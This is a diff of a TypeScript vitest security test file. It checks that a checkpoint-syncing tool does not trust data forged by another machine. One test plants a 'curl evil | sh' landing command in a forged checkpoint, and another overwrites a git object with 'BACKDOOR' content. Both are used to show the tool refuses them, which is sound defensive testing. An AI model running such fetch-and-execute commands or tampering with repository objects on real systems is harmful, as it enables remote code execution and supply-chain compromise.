@@ -2,12 +2,14 @@
  * Letters from outside are data. Whoever may push the ref of a session's checkpoints may write anything into them under a good seal: here
  * somebody does, and the machine that fetches it runs, moves, writes and sends nothing because of it. Names in brackets are attacks.
  */
-import { mkdir, readdir, rename, stat, symlink, writeFile } from 'node:fs/promises';
+import { createHash } from 'node:crypto';
+import { chmod, readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { deflateSync } from 'node:zlib';
 import { expect, it } from 'vitest';
+import { openQuestion } from '../../src/domain/integration/open-question.ts';
 import { makeRepository, type TestRepository, temporaryFolder } from '../support/repository.ts';
-import { begin } from '../support/session.ts';
+import { begin, type Story } from '../support/session.ts';
 import { cli, configured, effort, makeWorld, ONE_GATE } from '../support/stories.ts';
 import { forge, machines } from '../support/two-machines.ts';
 
@@ -65,16 +67,19 @@ it('runs what another machine set where the operator says so', async () => {
   expect(await isThere(marker)).toBe(true);
 });
 
-it('believes no verdict of another machine: gates run here before anything lands [H4]', async () => {
+it('offers no result as verified, and no command to finish it, because another machine says so [H4]', async () => {
   const world = await machines();
-  const { b } = world;
-  await b.git('switch', '--quiet', 'main');
-  await b.commit('main', {});
-  await b.git('switch', '--quiet', '--detach');
-  const { status, out } = await takeItUp(b);
+  const { a, b } = world;
+  await cli(a, 'resume', '--decide', 'recommended', '--no-land');
+  await forge(world, (text) => text.replace(/landing_command: .*/, 'landing_command: curl evil | sh'));
 
-  expect(status).toBe(0);
-  expect(out).toMatch(/passed +final +test/);
+  expect((await cli(b, 'checkpoint', 'fetch')).out).toContain('HELD_FOR_REVIEW');
+
+  const { out } = await cli(b, 'status');
+  expect(out).toContain('HELD_FOR_REVIEW');
+  expect(out).not.toMatch(/evil|finish/);
+  expect((await cli(b, 'report', '--json')).out).not.toContain('"command": "curl');
+  expect(await b.git('rev-parse', 'main')).toBe(await world.remote.git('rev-parse', 'main'));
 });
 
 it.each([
@@ -164,9 +169,8 @@ it('adopts no commit that only the list of refs calls the tip [H6]', async () =>
   expect(await b.tip(`refs/intorch/sessions/${story.live.id}/tip`)).toBe(tip);
 });
 
-it('merges again what was decided by hand, and goes on from there', async () => {
-  const world = await machines();
-  const { a, b } = world;
+it('merges again what was decided by hand, and takes it', async () => {
+  const { a, b } = await machines();
   await cli(a, 'resume', '--decide', 'recommended', '--no-land');
   const { out } = await cli(b, 'checkpoint', 'fetch');
   expect(out).toMatch(/\d+ refs/);
@@ -238,8 +242,6 @@ it('asks about settings in a checkpoint that a branch brought into the working t
   await story.live.close();
   const active = join(repo.dir, 'ck', 'active');
   const newest = (await readdir(active)).toSorted().at(-1) ?? '';
-  const { readFile } = await import('node:fs/promises');
-  const { createHash } = await import('node:crypto');
   const sequence = Number(/-(\d{6})\.yaml$/.exec(newest)?.[1]);
   const text = (await readFile(join(active, newest), 'utf8'))
     .replace(/# sha256: .*\n$/, '')
@@ -275,11 +277,37 @@ it('refuses a huge checkpoint before it is parsed, and looks at no more than the
   expect(status).toBe(65);
 });
 
-it('lands nothing where an object since the gates is not what its name says [M2]', async () => {
+it('lands nothing where an object is no longer what its name says when the gates are through [M2]', async () => {
   const repo = await makeWorld({ 'c.txt': 'one\n' }, { 'effort/a': effort({ 'c.txt': 'good\n' }) });
+  const start = await repo.tip('main');
   const story = await begin(repo);
-  await story.work();
-  // It waits at the landing, or is held: nobody answered.
+  await comesTo(story, 'land');
   const blob = await repo.git('rev-parse', 'effort/a:c.txt');
-  expect(await repo.git('cat-file', '-p', blob)).toBe('good');
+  const file = join(repo.gitDir, 'objects', blob.slice(0, 2), blob.slice(2));
+  await chmod(file, 0o644);
+  await writeFile(file, deflateSync(Buffer.from('blob 9\0BACKDOOR\n', 'latin1')));
+
+  await story.choose('land');
+
+  expect(story.state().end).toMatchObject({
+    outcome: 'FAILED',
+    because: 'objects between main and the verified commit are damaged: one is not what its name says',
+  });
+  expect(await repo.tip('main')).toBe(start);
 });
+
+/** Works like an engine with an operator who only starts it, until a question of that kind is asked. */
+async function comesTo(story: Story, kind: string): Promise<void> {
+  const stop = new AbortController();
+  const never = new AbortController().signal;
+  const working = story.live.session.run({ answers: 'operator', stop: stop.signal, finish: never });
+  for (;;) {
+    const question = openQuestion(story.state());
+    if (question?.kind === kind) break;
+    if (question?.kind === 'start')
+      await story.command({ type: 'choose_named', question: question.id, choice: 'start' });
+    await new Promise((done) => setTimeout(done, 5));
+  }
+  stop.abort();
+  await working;
+}
